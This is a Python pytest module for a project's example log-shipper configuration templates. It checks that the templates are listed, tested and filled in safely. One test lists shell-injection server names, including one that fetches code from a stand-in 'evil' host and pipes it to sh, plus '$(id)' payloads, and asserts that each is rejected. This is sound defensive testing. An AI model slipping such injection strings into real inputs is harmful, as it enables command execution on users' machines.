"""The examples of log shippers: each is run, or its requests are checked; and nothing is left to be filled in."""

import re

import pytest

from dashboards.shippers import filled, shippers
from service.errors import BadParameter
from tests.captures.runs import CALLS, requests
from tests.house.checkout import ROOT
from tests.senders.kinds import RUN
from tests.senders.test_formats import FORMATS

FOLDER = ROOT / "examples" / "shippers"
SHIPPERS = list(shippers().values())
KEYS = [each.key for each in SHIPPERS]
CREDENTIALS = {
    "header": r"Authorization|bearer_token|strategy: bearer|\btoken[:=]|api_key|SplunkHecHandler",
    "basic": r"lastcall",
}


def test_every_file_is_offered() -> None:
    """None lies there that nobody is told of, and none is missing."""
    lying = {path.name for path in FOLDER.iterdir()} - {"README.md", "shippers.toml"}

    assert sorted(each.file for each in SHIPPERS) == sorted(lying)


def test_every_file_is_run_or_its_requests_are_checked() -> None:
    """By a sender's test, by a recording, or as its documentation tells them."""
    said = {each.key: each.checked for each in SHIPPERS}

    assert {key for key, checked in said.items() if checked == "run"} == RUN
    assert {key for key, checked in said.items() if checked == "format"} == set(FORMATS)
    assert set(said.values()) - {"run", "format"} <= set(CALLS)


@pytest.mark.parametrize("key", KEYS)
def test_a_file_names_all_that_it_needs_and_nothing_else(key: str) -> None:
    """A server, the service and a token; once they are filled in, no place is left."""
    text = filled(
        shippers()[key].text,
        address="https://lc.example.net:8443/lc",
        server="maps",
        token="lct_X-1_y",
    )

    assert "LASTCALL_" not in text
    assert "lct_X-1_y" in text
    assert "maps" in text
    assert "lc.example.net" in text
    assert "8443" in text
    assert "127.0.0.1:8420" not in text


@pytest.mark.parametrize("key", KEYS)
def test_a_file_says_how_its_token_travels(key: str) -> None:
    """In its comment, and as it is listed; one that no test runs says so, too."""
    shipper = shippers()[key]
    words = " ".join(re.sub(r"^(?:#|//)", "", shipper.text, flags=re.MULTILINE).split())
    way = {"header": "The token travels in a header", "basic": "The token travels as the password"}

    assert way[shipper.token] in words
    assert re.search(CREDENTIALS[shipper.token], shipper.text)
    assert (shipper.checked == "run") or "is checked" in words or "are checked" in words


@pytest.mark.parametrize("key", [each.key for each in SHIPPERS if each.checked in CALLS])
def test_a_recording_went_where_the_file_leads(key: str) -> None:
    """The path of the recorded requests is that of the file, below the server's name."""
    shipper = shippers()[key]
    paths = {each.target.partition("?")[0] for each in requests(shipper.checked) if each.body}

    assert [path for path in paths if path not in shipper.text] == []


@pytest.mark.parametrize(
    "server", ["", "a b", "x';curl evil|sh;'", 'm"', "m\n", "$(id)", "`id`", "-x", "m" * 65, "mäps"]
)
def test_a_server_whose_name_could_mean_something_is_not_filled_in(server: str) -> None:
    """People paste these files into shells."""
    with pytest.raises(BadParameter, match="server"):
        filled("LASTCALL_SERVER", address="http://127.0.0.1:8420", server=server)


@pytest.mark.parametrize(
    "address",
    [
        "",
        "ftp://a",
        "http://",
        "http://a/$(id)",
        "http://a'b",
        "http://a?x",
        "http://u:p@a",
        "http://a/",
    ],
)
def test_an_address_that_is_none_is_not_filled_in(address: str) -> None:
    """Nor one with anything in it but a host, a port and a plain path."""
    with pytest.raises(BadParameter, match="address"):
        filled("LASTCALL_ADDRESS", address=address, server="maps")


@pytest.mark.parametrize(
    ("address", "parts"),
    [
        ("http://127.0.0.1:8420", "http 127.0.0.1 8420 [] off"),
        ("https://lc.example.net", "https lc.example.net 443 [] on"),
        ("http://[::1]:8420/lc", "http [::1] 8420 [/lc] off"),
    ],
)
def test_an_address_is_taken_apart_where_a_shipper_wants_its_parts(
    address: str, parts: str
) -> None:
    """The port is always named."""
    text = "LASTCALL_SCHEME LASTCALL_HOST LASTCALL_PORT [LASTCALL_PATH] LASTCALL_TLS"

    assert filled(text, address=address, server="maps") == parts
